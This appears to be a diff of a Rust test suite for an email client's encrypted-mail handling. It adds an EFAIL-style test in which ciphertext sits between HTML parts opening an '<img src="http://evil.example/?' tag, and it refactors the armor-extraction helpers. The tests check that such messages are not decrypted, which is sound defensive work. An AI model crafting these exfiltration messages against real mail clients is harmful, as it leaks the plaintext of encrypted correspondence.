@@ -755,21 +755,29 @@ fn fail_efail_direct_exfiltration_is_not_decrypted() {
                 "ciphertext second",
                 multipart("mixed", &[text_part("Hello"), ciphertext.clone()]),
             ),
+            (
+                "ciphertext as a file between html parts",
+                multipart(
+                    "mixed",
+                    &[
+                        html_part("<img src=\"http://evil.example/?"),
+                        ciphertext_file(std, &encrypted),
+                        html_part("\">"),
+                    ],
+                ),
+            ),
         ];
         if std.method == Method::Pgp {
             // The armored message itself in a text part (inline PGP), not first in the
             // multipart: never the message's own layer.
-            let (_, body) = split(&encrypted);
-            let start = body.find("-----BEGIN PGP MESSAGE-----").unwrap();
-            let end = body.find("-----END PGP MESSAGE-----").unwrap() + 25;
-            let armored = &body[start..end];
+            let armored = armored(&encrypted);
             shapes.push((
                 "inline armored text part",
                 multipart(
                     "mixed",
                     &[
                         html_part("<img src=\"http://evil.example/?"),
-                        text_part(armored),
+                        text_part(&armored),
                         html_part("\">"),
                     ],
                 ),
@@ -804,6 +812,32 @@ fn fail_efail_direct_exfiltration_is_not_decrypted() {
             );
         }
     }
+}
+
+/// The ciphertext of a genuine encrypted message as a file attachment: Outlook's
+/// `smime.p7m` as `application/octet-stream`, or an armored `.asc` file.
+fn ciphertext_file(std: &Std, encrypted: &[u8]) -> String {
+    match std.method {
+        Method::Smime => format!(
+            "Content-Type: application/octet-stream; name=\"smime.p7m\"\r\n\
+             Content-Disposition: attachment; filename=\"smime.p7m\"\r\n\
+             Content-Transfer-Encoding: base64\r\n\r\n{}",
+            split(encrypted).1
+        ),
+        Method::Pgp => format!(
+            "Content-Type: application/octet-stream; name=\"message.asc\"\r\n\
+             Content-Disposition: attachment; filename=\"message.asc\"\r\n\r\n{}\r\n",
+            armored(encrypted)
+        ),
+    }
+}
+
+/// The armored OpenPGP message inside a PGP/MIME encrypted message.
+fn armored(encrypted: &[u8]) -> String {
+    let (_, body) = split(encrypted);
+    let start = body.find("-----BEGIN PGP MESSAGE-----").expect("armor");
+    let end = body.find("-----END PGP MESSAGE-----").expect("armor end") + 25;
+    body[start..end].to_string()
 }
 
 /// "Re: What's up Johnny?" (ACNS 2019, covert content in `multipart/alternative`): the
@@ -1108,16 +1142,13 @@ fn fail_tampered_signed_body_is_invalid() {
 #[test]
 fn fail_inline_ciphertext_first_in_mixed_is_shown_alone() {
     let encrypted = genuine(&PGP, ENCRYPTED, &format!("The code is {SECRET}."));
-    let (_, body) = split(&encrypted);
-    let start = body.find("-----BEGIN PGP MESSAGE-----").unwrap();
-    let end = body.find("-----END PGP MESSAGE-----").unwrap() + 25;
-    let armored = &body[start..end];
+    let armored = armored(&encrypted);
     let raw = message(
         &format!("Mallory <{MALLORY}>"),
         &multipart(
             "mixed",
             &[
-                text_part(armored),
+                text_part(&armored),
                 html_part("<img src=\"http://evil.example/?"),
                 html_part(&format!("\"> {ATTACKER}")),
             ],
